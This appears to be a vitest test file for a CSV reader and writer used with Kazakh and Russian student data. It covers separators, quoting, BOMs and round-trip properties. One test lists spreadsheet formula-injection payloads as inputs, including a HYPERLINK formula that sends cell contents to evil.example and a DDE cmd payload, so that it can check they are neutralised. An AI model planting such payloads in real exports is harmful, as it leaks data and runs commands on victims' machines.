import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { syntheticIin } from '../identifiers/index';
import {
  csvSeparators,
  detectCsvSeparator,
  formulaSafe,
  readCsv,
  writeCsv,
  type CsvReadResult,
} from './csv';

function records(result: CsvReadResult) {
  if (!result.ok) throw new Error(`unexpected CSV error ${JSON.stringify(result.error)}`);
  return result.records;
}

describe('readCsv', () => {
  it('reads semicolon CSV as Excel writes it in the ru/kk locale, with BOM and CRLF', () => {
    const iin = syntheticIin(1, { from: '2000-01-01', to: '2009-12-31' });
    const text = `\uFEFFФИО;ИИН;Группа\r\nАхметов Нұрлан;${iin};ПО-21\r\n`;
    const result = readCsv(text);
    expect(result.ok && result.separator).toBe(';');
    expect(records(result)).toEqual([
      { line: 1, cells: ['ФИО', 'ИИН', 'Группа'] },
      { line: 2, cells: ['Ахметов Нұрлан', iin, 'ПО-21'] },
    ]);
  });

  it('detects comma and tab separators from the header line', () => {
    expect(detectCsvSeparator('name,iin,group\na;b,c')).toBe(',');
    expect(detectCsvSeparator('name\tiin\tgroup\n')).toBe('\t');
    expect(detectCsvSeparator('"a;b";c,d,e\n')).toBe(',');
    expect(detectCsvSeparator('single column\n')).toBe(';');
    expect(records(readCsv('a\tb\n1\t2')).map((r) => r.cells)).toEqual([
      ['a', 'b'],
      ['1', '2'],
    ]);
  });

  it('unquotes RFC 4180 cells: doubled quotes, separators and line breaks inside quotes', () => {
    const text = 'a;b;c\n"ТОО ""Алем""";"x;y";"line one\r\nline two"\nlast;"";\n';
    expect(records(readCsv(text))).toEqual([
      { line: 1, cells: ['a', 'b', 'c'] },
      { line: 2, cells: ['ТОО "Алем"', 'x;y', 'line one\r\nline two'] },
      { line: 4, cells: ['last', '', ''] },
    ]);
  });

  it('skips empty lines but keeps counting them, and accepts a missing final line break', () => {
    const text = 'a;b\n\n\r\n1;2\n\n3;4';
    expect(records(readCsv(text))).toEqual([
      { line: 1, cells: ['a', 'b'] },
      { line: 4, cells: ['1', '2'] },
      { line: 6, cells: ['3', '4'] },
    ]);
  });

  it('keeps a quoted empty line as one empty cell', () => {
    expect(records(readCsv('a\n""\nb\n')).map((r) => r.cells)).toEqual([['a'], [''], ['b']]);
  });

  it('counts lone CR line endings', () => {
    expect(records(readCsv('a;b\r1;2\r3;4')).map((r) => r.line)).toEqual([1, 2, 3]);
  });

  it('keeps a quote inside an unquoted cell as a literal character', () => {
    expect(records(readCsv('employer\nТОО "Алем" и К\n'))[1]!.cells).toEqual(['ТОО "Алем" и К']);
  });

  it('reports an unterminated quote at the line where it opened', () => {
    const result = readCsv('a;b\n1;"open\n\n2;3\n');
    expect(result).toEqual({
      ok: false,
      error: { code: 'csv_unterminated_quote', line: 2, cell: 2 },
    });
  });

  it('reports text glued after a closing quote', () => {
    expect(readCsv('a;b\nx;"y"z\n')).toEqual({
      ok: false,
      error: { code: 'csv_text_after_quote', line: 2, cell: 2 },
    });
  });

  it('reads a Russian Excel export: BOM, semicolons, CRLF and a quoted cell with line breaks', () => {
    const text =
      '\uFEFF"ФИО";"Адрес";"Группа"\r\n' +
      'Сейтқали Дана;"г. Астана,\r\nул. Кенесары; 5";ПО-22\r\n' +
      'Ким Артём;"";ПО-23\r\n';
    const result = readCsv(text);
    expect(result.ok && result.separator).toBe(';');
    expect(records(result)).toEqual([
      { line: 1, cells: ['ФИО', 'Адрес', 'Группа'] },
      { line: 2, cells: ['Сейтқали Дана', 'г. Астана,\r\nул. Кенесары; 5', 'ПО-22'] },
      // The quoted address took two physical lines: the next record starts on line 4.
      { line: 4, cells: ['Ким Артём', '', 'ПО-23'] },
    ]);
  });

  it('counts line breaks inside quoted cells when it reports a later error', () => {
    const text = 'a;b\r\n"one\ntwo\r\nthree";x\r\ny;"z"!\r\n';
    expect(readCsv(text)).toEqual({
      ok: false,
      error: { code: 'csv_text_after_quote', line: 5, cell: 2 },
    });
  });

  it('honours an explicit separator', () => {
    expect(records(readCsv('a,b;c\n', ';'))[0]!.cells).toEqual(['a,b', 'c']);
  });

  it('returns no records for an empty text or a lone BOM', () => {
    expect(records(readCsv(''))).toEqual([]);
    expect(records(readCsv('\uFEFF'))).toEqual([]);
  });
});

describe('writeCsv', () => {
  it('writes semicolons and CRLF by default and quotes only where needed', () => {
    const text = writeCsv([
      ['ФИО', 'Балл', 'Примечание'],
      ['Ахметов "Нұрлан"', 87.5, 'a;b'],
      ['Line\nbreak', null, undefined],
    ]);
    expect(text).toBe(
      'ФИО;Балл;Примечание\r\n"Ахметов ""Нұрлан""";87.5;"a;b"\r\n"Line\nbreak";;\r\n',
    );
  });

  it('adds a BOM on request and honours the separator and line ending', () => {
    expect(writeCsv([['a,b', 'c']], { bom: true, separator: ',', lineEnding: '\n' })).toBe(
      '\uFEFF"a,b",c\n',
    );
    expect(writeCsv([])).toBe('');
  });

  it('writes text that a spreadsheet would run as a formula behind an apostrophe', () => {
    const names = [
      '=HYPERLINK("http://evil.example/?d="&A1;"Результат")',
      "=cmd|' /C calc'!A0",
      '+1+2',
      '-2+3',
      '@SUM(1+1)',
      '\t=1+1',
      '\r=1+1',
      '＝1+1',
    ];
    const text = writeCsv([['ФИО'], ...names.map((name) => [name])], { lineEnding: '\n' });
    expect(text.split('\n')).toEqual([
      'ФИО',
      '"\'=HYPERLINK(""http://evil.example/?d=""&A1;""Результат"")"',
      "'=cmd|' /C calc'!A0",
      "'+1+2",
      "'-2+3",
      "'@SUM(1+1)",
      "'\t=1+1",
      '"\'\r=1+1"',
      "'＝1+1",
      '',
    ]);
    // Read back as the spreadsheet shows it: the text, never a formula.
    expect(records(readCsv(text)).map((r) => r.cells[0])).toEqual([
      'ФИО',
      ...names.map((name) => `'${name}`),
    ]);
    expect(['Ахметов', 'a-b', 'e@mail', '1+1', ''].map(formulaSafe)).toEqual([
      'Ахметов',
      'a-b',
      'e@mail',
      '1+1',
      '',
    ]);
  });

  it('writes numbers as numbers, a negative one too, and text in a number column as text', () => {
    const text = writeCsv(
      [
        ['№', 'Балл', 'Примечание'],
        [-1, '-1,50', '-1,50'],
        [2, '-2.5', '-'],
        [3, '=1+1', '@x'],
      ],
      { numberColumns: [0, 1] },
    );
    expect(text).toBe("№;Балл;Примечание\r\n-1;-1,50;'-1,50\r\n2;-2.5;'-\r\n3;'=1+1;'@x\r\n");
  });

  it('round-trips any cells through read (property)', () => {
    const cellText = fc.string({
      unit: fc.constantFrom('a', 'Ә', 'ж', ' ', ';', ',', '\t', '"', '\n', '\r', '1'),
    });
    const table = fc
      .integer({ min: 1, max: 5 })
      .chain((width) =>
        fc.array(fc.array(cellText, { minLength: width, maxLength: width }), { maxLength: 8 }),
      );
    fc.assert(
      fc.property(
        table,
        fc.constantFrom(...csvSeparators),
        fc.boolean(),
        fc.constantFrom('\r\n' as const, '\n' as const),
        (rows, separator, bom, lineEnding) => {
          const result = readCsv(writeCsv(rows, { separator, bom, lineEnding }), separator);
          // A cell that would start a formula comes back behind an apostrophe; others as written.
          const expected = rows.map((row) =>
            row.map((cell) => (/^[\t\r]/.test(cell) ? `'${cell}` : cell)),
          );
          expect(records(result).map((r) => r.cells)).toEqual(expected);
        },
      ),
      { numRuns: 500 },
    );
  });

  it('round-trips with the separator detected from the header written by writeCsv (property)', () => {
    const header = fc.array(fc.stringMatching(/^[A-Za-zА-Яа-я]{1,8}$/), {
      minLength: 2,
      maxLength: 6,
    });
    fc.assert(
      fc.property(header, fc.constantFrom(...csvSeparators), (names, separator) => {
        const result = readCsv(writeCsv([names, names.map(() => 'x;y,z')], { separator }));
        expect(result.ok && result.separator).toBe(separator);
        expect(records(result)[1]!.cells).toEqual(names.map(() => 'x;y,z'));
      }),
    );
  });
});
